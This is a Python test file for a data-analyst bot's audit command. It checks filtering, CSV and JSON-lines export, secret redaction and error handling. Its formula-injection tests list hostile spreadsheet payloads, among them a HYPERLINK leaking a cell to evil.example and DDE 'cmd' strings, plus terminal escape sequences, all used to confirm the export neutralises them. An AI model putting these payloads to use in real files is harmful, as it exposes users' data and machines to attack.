"""`datathread audit`: filters by user, channel, session and age; JSON lines and CSV; secrets redacted."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import UTC, datetime

import pytest

from bot.audit import CSV_FIELDS, audit_rows, print_audit
from bot.terminal_controls import printable
from core.schedules import new_schedule
from core.schedules_store import ScheduleBook
from core.sessions import open_store
from tests.fakes.cli import DATATHREAD

KEY = "sk-ant-test-key-000000"  # the `settings` fixture's API key


def turn(tid: str, *, user: str, channel: str, session: str, age_h: float, steps: list[dict]) -> dict:
    now = time.time() - age_h * 3600
    return {
        "turn_id": tid,
        "session_id": session,
        "surface": "slack",
        "team_id": "T1",
        "channel_id": channel,
        "user_id": user,
        "question": f"question {tid} {KEY}",
        "answer": "an answer",
        "ok": True,
        "error": "",
        "started": now,
        "finished": now + 1,
        "stats": {},
        "steps": steps,
        "artifacts": [],
        "feedback": {"U1": "good"} if tid == "a" else {},
    }


STEP = {"step_id": "a-1", "tool": "run_sql", "input": {"sql": "SELECT 1"}, "ok": True, "rows": 1,
        "bytes_scanned": None, "duration_s": 0.2}  # fmt: skip


@pytest.fixture
async def recorded(settings):
    store = await open_store(settings)
    for t in (
        turn("a", user="U1", channel="C1", session="s1", age_h=0.1, steps=[STEP, {**STEP, "step_id": "a-2"}]),
        turn("b", user="U2", channel="C1", session="s2", age_h=0.2, steps=[]),
        turn("c", user="U1", channel="C2", session="s3", age_h=48, steps=[STEP]),
    ):
        await store.record_turn(t)
    await store.close()
    return settings


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, ["c", "b", "a"]),
        ({"user": "U1"}, ["c", "a"]),
        ({"channel": "C1"}, ["b", "a"]),
        ({"session": "s2"}, ["b"]),
        ({"since_hours": 1}, ["b", "a"]),
        ({"user": "U1", "channel": "C1"}, ["a"]),
        ({"user": "nobody"}, []),
    ],
)
async def test_jsonl_filters(recorded, filters, expected):
    out = io.StringIO()
    args = {"session": None, "user": None, "channel": None, "since_hours": None, **filters}
    count = await print_audit(recorded, fmt="jsonl", limit=100, out=out, **args)
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert count == len(expected) and [t["turn_id"] for t in lines] == expected
    assert KEY not in out.getvalue()
    assert all("[redacted]" in t["question"] for t in lines)


async def test_limit_keeps_the_newest(recorded):
    out = io.StringIO()
    await print_audit(recorded, session=None, user=None, channel=None, since_hours=None, fmt="jsonl",
                      limit=2, out=out)  # fmt: skip
    assert [json.loads(x)["turn_id"] for x in out.getvalue().splitlines()] == ["b", "a"]


async def test_csv_one_row_per_step(recorded):
    out = io.StringIO()
    await print_audit(recorded, session=None, user=None, channel="C1", since_hours=None, fmt="csv",
                      limit=100, out=out)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0].keys()) == CSV_FIELDS
    assert [(r["turn_id"], r["step"]) for r in rows] == [("b", ""), ("a", "a-1"), ("a", "a-2")]
    assert json.loads(rows[1]["input"]) == {"sql": "SELECT 1"} and rows[1]["tool"] == "run_sql"
    assert json.loads(rows[1]["feedback"]) == {"U1": "good"}
    assert KEY not in out.getvalue()
    started = datetime.strptime(rows[1]["started"], "%Y-%m-%d %H:%M:%S")  # what a spreadsheet reads
    assert abs(started.replace(tzinfo=UTC).timestamp() - (time.time() - 360)) < 60  # in UTC


def test_csv_rows_say_what_each_turn_spent():
    """The CSV had no column for what a turn cost: no bytes billed, model calls or tokens."""
    spent = {"model_calls": 4, "input_tokens": 12, "output_tokens": 900, "cache_read_tokens": 40_000,
             "cache_write_tokens": 3_000}  # fmt: skip
    record = turn("q", user="U1", channel="C1", session="s9", age_h=0, steps=[
        {**STEP, "tool": "query_warehouse", "bytes_scanned": 123, "bytes_billed": 10_485_760}])  # fmt: skip
    [row] = audit_rows([{**record, "stats": spent}])
    assert row["bytes_scanned"] == 123 and row["bytes_billed"] == 10_485_760
    assert {key: row[key] for key in spent} == spent
    assert CSV_FIELDS[-6:] == ("bytes_billed", *spent)  # after the older columns, which keep their places


async def test_a_schedule_session_as_audit_prints_it(recorded):
    """SCHEDULES.md: `datathread audit --session schedule:ID` lists a schedule's trail. The id holds a
    `:` (not a valid directory name), so it was hashed as a terminal `--session` key: nothing printed."""
    store = await open_store(recorded)
    try:
        schedule = new_schedule(
            cron="0 9 * * mon", tz="UTC", surface="slack", channel="C1", question="q", now=datetime.now(UTC)
        )
        await ScheduleBook(store).add(schedule, by="U1", trusted=True)
    finally:
        await store.close()
    out = io.StringIO()
    session = f"schedule:{schedule.id}"
    count = await print_audit(recorded, session=session, user=None, channel=None, since_hours=None,
                              fmt="jsonl", limit=100, out=out)  # fmt: skip
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert count == 1 and [(t["session_id"], t["event"]) for t in lines] == [(session, "created")]


def test_a_reader_that_stops_early_ends_the_command_quietly(recorded):
    """`datathread audit | head -3`: the reader has closed the pipe when the output is written (here,
    before anything was read). Block-buffered as a real pipe is (no PYTHONUNBUFFERED), the turns are
    written by the flush at exit, which used to print "Exception ignored … BrokenPipeError"."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC", "DATATHREAD", "SLACK"))}
    env.pop("PYTHONUNBUFFERED", None)
    proc = subprocess.Popen(
        [DATATHREAD, "audit"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**env, "DATATHREAD_HOME": str(recorded.home)},
    )
    proc.stdout.close()  # the reader is done before the command writes its first line
    try:
        stderr = proc.communicate(timeout=60)[1].decode()
    finally:
        proc.kill()
    assert stderr == "" and proc.returncode == 0  # the reader chose to stop: no failure (bot/cli.py main)


def quiet_env(home) -> dict:
    """A user's shell: no settings of ours, no PYTHONUNBUFFERED (a real pipe is block-buffered)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC", "DATATHREAD", "SLACK"))}
    env.pop("PYTHONUNBUFFERED", None)
    return {**env, "DATATHREAD_HOME": str(home)}


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_a_listing_cut_short_by_head_is_no_failure_of_the_pipeline(settings, fmt):
    """`datathread audit | head -1` under `set -o pipefail` failed (exit 1, nothing said): a write in the
    middle of the listing met the closed pipe, and click ends a command so with 1. A reader that took
    what it wanted is no failure; coreutils' 141 (SIGPIPE) would fail the pipeline too."""
    store = await open_store(settings)
    for n in range(40):  # ~1 MB: far past the pipe's buffer, so `head` is gone mid-listing
        await store.record_turn(
            turn(f"t{n}", user="U1", channel="C1", session="s", age_h=n / 100, steps=[])
            | {"question": "q" * 25_000}
        )
    await store.close()
    shell = f"set -o pipefail; {DATATHREAD} audit --format {fmt} | head -1 | cut -c1-12"
    done = subprocess.run(
        ["bash", "-c", shell], capture_output=True, text=True, env=quiet_env(settings.home), timeout=60
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == ('{"turn_id": \n' if fmt == "jsonl" else "turn_id,star\n")


def test_a_failure_keeps_its_code_when_the_reader_is_gone_too(tmp_path):
    """Only the pipe is forgiven: a command that failed after writing ends with its own code (the flush of
    its output replaced its exit, and the code was 1 whatever the command had said)."""
    script = (
        "import typer, bot.cli\n"
        "app = typer.Typer()\n"
        "@app.command()\n"
        "def failing():\n"
        "    print('some output')\n"
        "    raise typer.Exit(3)\n"
        "bot.cli.app = app\n"
        "bot.cli.main()\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=quiet_env(tmp_path),
    )
    proc.stdout.close()
    try:
        stderr = proc.communicate(timeout=60)[1].decode()
    finally:
        proc.kill()
    assert (proc.returncode, stderr) == (3, "")


def test_audit_rows_turn_without_steps_gets_one_row():
    rows = audit_rows([{"turn_id": "x", "steps": []}])
    assert len(rows) == 1 and rows[0]["step"] == "" and rows[0]["input"] == ""


INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", INJECTIONS)
async def test_csv_neutralises_formulas_from_questions_and_steps(settings, payload):
    """A question (and a tool name / SQL) starting like a formula is written as text, not as a formula."""
    store = await open_store(settings)
    bad = {**turn("f", user="U1", channel="C1", session="s1", age_h=0.1, steps=[]), "question": payload}
    bad["steps"] = [{**STEP, "tool": payload, "input": payload}]
    await store.record_turn(bad)
    await store.close()
    out = io.StringIO()
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="csv",
                      limit=10, out=out)  # fmt: skip
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    shown = printable("'" + payload)  # and a control character (the "\r" of one payload) shows as "?"
    assert row["question"] == shown and row["tool"] == shown
    cells = [c for r in csv.reader(io.StringIO(out.getvalue(), newline="")) for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    jsonl = io.StringIO()  # JSON lines are data, not a spreadsheet: unchanged
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="jsonl",
                      limit=10, out=jsonl)  # fmt: skip
    assert json.loads(jsonl.getvalue().splitlines()[0])["question"] == payload


async def test_csv_cells_hiding_a_formula_after_a_separator_are_quoted(settings):
    """A spreadsheet whose list separator is ";" split an unquoted `x;=HYPERLINK(B7)` into a second cell
    starting with "=": every cell is quoted, so the whole question stays one inert cell."""
    store = await open_store(settings)
    hidden = "count all flights x;=HYPERLINK(B7);"
    await store.record_turn(
        {**turn("h", user="U1", channel="C1", session="s1", age_h=0.1, steps=[]), "question": hidden}
    )
    await store.close()
    out = io.StringIO()
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="csv",
                      limit=10, out=out)  # fmt: skip
    line = out.getvalue().splitlines()[1]
    assert f'"{hidden}"' in line  # read with ";" as the separator, the quotes keep it one cell
    assert next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))["question"] == hidden


async def test_csv_cells_never_carry_terminal_controls(settings):
    """`audit --format csv` wrote a question's (or answer's) escape sequences as they were: printed, or
    `cat` later, they cleared the screen and retitled the terminal. They show as `?`; JSON escapes them."""
    store = await open_store(settings)
    hostile = "flights?\x1b]0;owned\x07\x1b[2J\u202egnp.csv\nsecond line"
    await store.record_turn(
        {**turn("e", user="U1", channel="C1", session="s1", age_h=0.1, steps=[]), "question": hostile}
    )
    await store.close()
    out = io.StringIO()
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="csv",
                      limit=10, out=out)  # fmt: skip
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue() and "\u202e" not in out.getvalue()
    question = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))["question"]
    assert question == "flights??]0;owned??[2J?gnp.csv\nsecond line"  # a line break stays one


HOURS = (
    "error: --since-hours takes a number of hours back from now, more than 0 and at most 876,600 (100 years), "
    "e.g. 24."
)


@pytest.mark.parametrize(
    "args,code,said",
    [
        ([], 0, "No recorded turns in {home} yet."),  # where it looked: run in another folder, say
        (["--user", "U9"], 0, "No recorded turns in {home} match these filters."),
        (
            ["--since-hours", "-1"],
            2,
            "error: --since-hours takes a number of hours back from now, more than 0",
        ),
        (
            ["--since-hours", "0"],
            2,
            "error: --since-hours takes a number of hours back from now, more than 0",
        ),
        (["--since-hours", "inf"], 2, HOURS),  # was every turn, unsaid
        (["--since-hours", "1e308"], 2, HOURS),  # 1e308 hours back is -inf too
        (["--since-hours", "876601"], 2, HOURS),  # past 100 years
        (["--since-hours", "nan"], 2, HOURS),
    ],
    ids=["empty", "filtered", "negative-hours", "zero-hours", "inf-hours", "1e308-hours", "century", "nan"],
)
def test_audit_says_when_nothing_matches_and_refuses_a_window_of_no_time(
    tmp_path, monkeypatch, args, code, said
):
    """An empty audit printed nothing at all; `--since-hours -1` and `--limit 0` were taken and listed
    nothing, exit 0. stdout stays what a pipe reads: the sentences go to stderr."""
    from typer.testing import CliRunner

    from bot.cli import app

    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["audit", *args], env={"DATATHREAD_HOME": str(tmp_path / "home")})
    assert result.exit_code == code, result.output
    said = said.format(home=tmp_path / "home")
    assert result.stdout == "" and result.stderr.strip().startswith(said), result.stderr
    limited = CliRunner().invoke(
        app, ["audit", "--limit", "0"], env={"DATATHREAD_HOME": str(tmp_path / "home")}
    )
    assert limited.exit_code == 2 and "--limit" in limited.output


def test_a_limit_past_any_count_lists_every_turn(recorded):
    """`--limit 99999999999999999999` was a traceback ("Python int too large to convert to SQLite
    INTEGER"): any number of turns a person may want is all of them."""
    from typer.testing import CliRunner

    from bot.cli import app

    env = {"DATATHREAD_HOME": str(recorded.home)}
    result = CliRunner().invoke(app, ["audit", "--limit", "99999999999999999999"], env=env)
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["turn_id"] for line in result.stdout.splitlines()] == ["c", "b", "a"]


@pytest.mark.parametrize(("fmt", "printed"), [("jsonl", ""), ("csv", ",".join(CSV_FIELDS) + "\n")])
def test_a_home_that_does_not_exist_lists_nothing_and_is_not_made(tmp_path, monkeypatch, fmt, printed):
    """`audit` made DATATHREAD_HOME and a state database in it, to find nothing there: it prints the
    empty result an empty home gives (nothing, or the CSV header) and makes nothing."""
    from typer.testing import CliRunner

    from bot.cli import app

    monkeypatch.chdir(tmp_path)
    results = []
    for home in (tmp_path / "nowhere", tmp_path / "empty"):
        if home.name == "empty":
            home.mkdir()
        result = CliRunner().invoke(app, ["audit", "--format", fmt], env={"DATATHREAD_HOME": str(home)})
        assert result.exit_code == 0, result.output
        results.append((result.stdout.replace("\r\n", "\n"), result.stderr.replace(str(home), "HOME")))
    assert results[0] == results[1] == (printed, "No recorded turns in HOME yet.\n")
    assert not (tmp_path / "nowhere").exists()


async def test_csv_has_the_error_its_id_and_the_corrections_after_the_old_columns(
    settings, fake_model, recorder
):
    """The CSV had no error, no error id and no corrections: filtering failures, or finding the turn of
    "error id 1a2b3c4d" a thread showed, needed the JSON lines — which had no id either. Both failure
    paths keep the id the person was shown: a model error, and a turn stopped at the step limit."""
    from core.analyst import Analyst
    from core.events import IncomingMessage
    from tests.fakes.anthropic_api import error, text

    analyst = await Analyst.create(settings.model_copy(update={"max_steps": 1}))
    try:
        fake_model.enqueue(error(400, "invalid_request_error", "scripted refusal"))
        fake_model.enqueue(*[text("Still working…", stop_reason="pause_turn") for _ in range(3)])
        failed = [
            await analyst.handle(IncomingMessage(text=q, surface="terminal", thread_key=(q,)), recorder)
            for q in ("refused?", "too long?")
        ]
    finally:
        await analyst.close()
    store = await open_store(settings)
    corrected = turn("b", user="U2", channel="C1", session="s2", age_h=0.5, steps=[])
    await store.record_turn({**corrected, "corrections": [{"by": "U2", "text": "wrong year", "at": 1.0}]})
    await store.close()
    assert all(not o.ok and len(o.error_id) == 8 for o in failed)
    out = io.StringIO()
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="csv",
                      limit=10, out=out)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert CSV_FIELDS[:17] == OLD_CSV_FIELDS and CSV_FIELDS[17:20] == ("error", "error_id", "corrections")
    assert [(r["question"], r["error"], r["error_id"]) for r in rows[1:]] == [
        (asked, o.error, o.error_id) for asked, o in zip(("refused?", "too long?"), failed, strict=True)
    ]
    assert "more than 1 step" in rows[2]["error"]
    assert (rows[0]["error"], rows[0]["error_id"]) == ("", "")
    assert json.loads(rows[0]["corrections"]) == [{"by": "U2", "text": "wrong year", "at": 1.0}]
    jsonl = io.StringIO()
    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="jsonl",
                      limit=10, out=jsonl)  # fmt: skip
    assert [json.loads(line).get("error_id") for line in jsonl.getvalue().splitlines()][1:] == [
        o.error_id for o in failed
    ]


OLD_CSV_FIELDS = (
    "turn_id", "started", "surface", "team_id", "channel_id", "user_id", "session_id", "ok", "question",
    "step", "tool", "input", "rows", "bytes_scanned", "duration_s", "step_ok", "feedback",
)  # fmt: skip
